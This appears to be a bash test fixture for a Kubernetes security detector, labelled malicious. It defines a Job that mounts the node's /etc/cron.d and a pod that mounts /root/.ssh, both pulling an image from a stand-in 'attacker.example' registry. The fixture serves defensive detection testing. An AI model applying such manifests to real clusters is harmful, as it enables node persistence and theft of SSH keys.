# shellcheck shell=bash disable=SC2154
# what: pods that write the node's cron and ssh files.
# label: malicious
# expects: [sensitive-mount-rw]
# allows: [image-from-unknown-registry, pod-host-path-mounted, cronjob-written, cluster-resource-created, api-called-by-script]
develop() {
    given <<'Y' | intruder apply -f -
apiVersion: batch/v1
kind: Job
metadata: {name: tidy, namespace: shop}
spec:
  template:
    spec:
      restartPolicy: Never
      containers: [{name: t, image: "attacker.example/tools:1", volumeMounts: [{name: c, mountPath: /c}]}]
      volumes: [{name: c, hostPath: {path: /etc/cron.d}}]
Y
}
hold_out() { request POST /api/v1/namespaces/shop/pods '{"metadata":{"name":"keys"},"spec":{"containers":[{"name":"k","image":"attacker.example/tools:1","volumeMounts":[{"name":"s","mountPath":"/s"}]}],"volumes":[{"name":"s","hostPath":{"path":"/root/.ssh"}}]}}'; }
